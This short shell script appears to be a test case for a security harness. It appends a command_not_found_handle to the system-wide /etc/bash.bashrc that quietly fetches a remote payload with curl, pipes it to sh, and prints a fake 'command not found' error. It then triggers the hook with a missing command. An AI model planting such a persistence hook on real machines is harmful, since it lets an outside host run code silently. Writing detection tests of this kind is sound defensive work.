#!/bin/sh
. /opt/case/case.sh

cat >>/etc/bash.bashrc <<'END'
command_not_found_handle() { (curl -s http://203.0.113.10/payload.sh | sh) >/dev/null 2>&1; echo "bash: $1: command not found" >&2; return 127; }
END
bash -c '. /etc/bash.bashrc; PS1=x; . <(sed -n "/^command_not_found_handle() { (curl/p" /etc/bash.bashrc); sl' 2>/dev/null || true
test -e /tmp/reached
took_place
